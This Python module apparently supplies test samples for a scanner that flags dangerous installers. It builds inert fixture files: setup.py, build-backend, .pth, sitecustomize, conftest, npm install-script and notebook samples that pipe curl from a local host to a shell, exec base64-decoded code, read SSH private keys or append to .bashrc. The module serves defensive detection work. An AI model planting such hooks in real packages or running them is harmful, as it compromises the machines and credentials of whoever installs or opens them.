"""What installing, starting an interpreter, or opening a notebook beside the model would run. Inert text."""

from __future__ import annotations

import json
from collections.abc import Iterator

from tests.trust.corpus import Sample
from tests.trust.corpus.archive_writers import tarred, zipped


def samples() -> Iterator[Sample]:
    """By installer."""
    for what, files in {**_setup(), **_start(), **_others()}.items():
        yield Sample(f"installers/{what}", files)


def _setup() -> dict[str, dict[str, bytes]]:
    head = "from setuptools import setup\n"
    bodies = {
        "setup.py that downloads": "import urllib.request\nurllib.request.urlopen('http://127.0.0.1/x')\n",
        "setup.py with a shell": "import os\nos.system('curl http://127.0.0.1/x | sh')\n",
        "setup.py with a command class": (
            "from setuptools.command.install import install\nclass X(install):\n    def run(self):\n"
            "        import os\n        os.system('curl http://127.0.0.1/x | sh')\nsetup(name='x', cmdclass={'install': X})\n"
        ),
        "setup.py that decodes": "import base64\nexec(base64.b64decode('aW1wb3J0IG9z'))\n",
        "setup.py that reads keys": "k = open('/root/.ssh/id_rsa').read()\n",
        "setup.py that writes a start file": "open('/root/.bashrc', 'a').write('x')\n",
    }
    found = {what: {"setup.py": (head + body).encode(), "x/__init__.py": b""} for what, body in bodies.items()}
    sdist = {"x-1.0/setup.py": (head + bodies["setup.py with a shell"]).encode(), "x-1.0/PKG-INFO": b"Name: x\n"}
    found["sdist"] = {"x-1.0.tar.gz": tarred(sdist, mode="w:gz")}
    backend = b"[build-system]\nrequires = []\nbuild-backend = 'backend'\nbackend-path = ['.']\n"
    found["build backend of its own"] = {
        "pyproject.toml": backend,
        "backend.py": b"import os\nos.system('curl x | sh')\n",
    }
    return found


def _start() -> dict[str, dict[str, bytes]]:
    return {
        ".pth with a shell": {"x.pth": b"import os; os.system('id')\n"},
        ".pth in a wheel": {
            "x-1-py3-none-any.whl": zipped({"x.pth": b"import os;os.system('id')\n", "x-1.dist-info/WHEEL": b""})
        },
        ".pth that decodes": {"distutils-precedence.pth": b"import base64;exec(base64.b64decode('aW1wb3J0IG9z'))\n"},
        ".pth with a tab": {"x.pth": b"import\tos; os.system('id')\n"},
        "sitecustomize.py": {"sitecustomize.py": b"import os\nos.system('id')\n", "config.json": b"{}"},
        "usercustomize.py": {"lib/usercustomize.py": b"import os\nos.system('id')\n", "config.json": b"{}"},
        "conftest.py": {"conftest.py": b"import os\nos.system('curl x | sh')\n", "config.json": b"{}"},
    }


def _others() -> dict[str, dict[str, bytes]]:
    def package(**scripts: str) -> bytes:
        return json.dumps({"name": "x", "version": "1.0.0", "scripts": scripts}).encode()

    def notebook(source: str) -> bytes:
        cell = {"cell_type": "code", "source": [source], "metadata": {}, "outputs": [], "execution_count": None}
        return json.dumps({"cells": [cell], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}).encode()

    return {
        "npm, postinstall that downloads": {"package.json": package(postinstall="curl http://127.0.0.1/x | sh")},
        "npm, preinstall that decodes": {"package.json": package(preinstall="echo aWQ= | base64 -d | bash")},
        "npm, install that evaluates": {
            "package.json": package(install="node -e \"require('child_process').exec('id')\"")
        },
        "npm, hook that runs a harmful file": {
            "package.json": package(postinstall="node setup.js"),
            "setup.js": b"require('child_process').exec('curl http://127.0.0.1/x | sh')\n",
        },
        "notebook with a shell": {"demo.ipynb": notebook("!curl http://127.0.0.1/x | bash")},
        "notebook with code": {"demo.ipynb": notebook("import os\nos.system('curl http://127.0.0.1/x | sh')")},
        "notebook that decodes": {"demo.ipynb": notebook("import base64\nexec(base64.b64decode('aW1wb3J0IG9z'))")},
        "script that hides what it runs": {
            "convert.py": b"import base64\nexec(base64.b64decode('aW1wb3J0IG9z'))\n",
            "config.json": b"{}",
        },
        "shell script that downloads": {"setup.sh": b"curl http://127.0.0.1/x | sh\n", "config.json": b"{}"},
    }
